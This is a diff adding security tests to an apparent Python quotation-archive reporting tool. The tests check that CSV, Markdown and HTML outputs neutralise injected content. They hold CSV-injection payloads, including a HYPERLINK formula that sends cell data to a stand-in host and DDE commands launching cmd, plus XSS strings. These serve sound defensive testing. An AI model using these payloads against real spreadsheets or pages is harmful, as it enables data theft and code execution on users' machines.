@@ -3,11 +3,13 @@
 from __future__ import annotations
 
 import csv
+import re
 
 import pandas as pd
 import pytest
 
 from indoquote.archive.engines import TaggerSpec, tag_archive
+from indoquote.archive.render import html, markdown, write_csvs
 from indoquote.archive.report import ReportOptions, build_report, link_names, name_key, write_report
 from indoquote.cli.report import report_cli
 
@@ -128,3 +130,51 @@ def test_kinds_are_counted_when_the_table_has_them():
     summary = dict((r[0], r[1]) for r in build_report(with_kind).tables["summary"].rows)
     assert summary["  direct quotations"] == 8 and summary["  indirect quotations"] == 2  # row 8 (a5) has no quotation
     assert "  direct quotations" not in dict((r[0], r[1]) for r in build_report(ARCHIVE).tables["summary"].rows)
+
+
+# ------------------------------------------------------------------ hostile values (issue 31)
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+"""What a spreadsheet takes for a formula (OWASP, CSV injection)."""
+HOSTILE = {
+    "=": '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
+    "+": "+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t": "\t=1+1",
+    "\r": "\r=1+1",
+}
+
+
+def archive_with(value: str) -> pd.DataFrame:
+    """A quotation table whose outlet, speaker, role and affiliation all carry ``value``."""
+    cols = ("article_id", "outlet", "date", "quote_index", "speaker", "role", "affiliation")
+    return pd.DataFrame([("a1", value, "2021-01-05", 0, value, value, value),
+                         ("a2", "ANTARA", "2021-01-06", 0, "Retno Marsudi", "Menteri", "Kemlu")], columns=list(cols))
+
+
+@pytest.mark.parametrize("start", FORMULA_START)
+def test_every_formula_character_is_neutralised_in_every_report_csv(tmp_path, start):
+    value = HOSTILE[start]
+    report = build_report(archive_with(value))
+    paths = write_csvs(report, tmp_path)
+    seen = 0
+    for path in paths:
+        for row in csv.reader(path.open(encoding="utf-8", newline="")):
+            for c in row:
+                assert not c.startswith(FORMULA_START), (path.name, c)
+                seen += c.startswith("'") and value.strip() in c
+    assert seen >= 4  # speaker, role, affiliation, outlet: kept, as text
+
+
+def test_markdown_report_shows_html_and_links_as_text():
+    df = archive_with('<img src=x onerror="alert(1)"> [x](javascript:alert(1))')
+    text = markdown(build_report(df), source="out`<b>")
+    assert "<" not in text.replace("&lt;", "") and not re.search(r"(?<!\\)\]\(javascript:", text)  # no link
+
+
+def test_report_html_has_a_content_security_policy_and_escapes():
+    df = archive_with("<script>alert(1)</script>' onmouseover='alert(1)")
+    page = html(build_report(df, title="<b>t</b>"), source="<i>")
+    assert 'http-equiv="Content-Security-Policy"' in page and "script-src" not in page and "default-src 'none'" in page
+    assert "<script>" not in page and "<b>t</b>" not in page and "onmouseover='" not in page
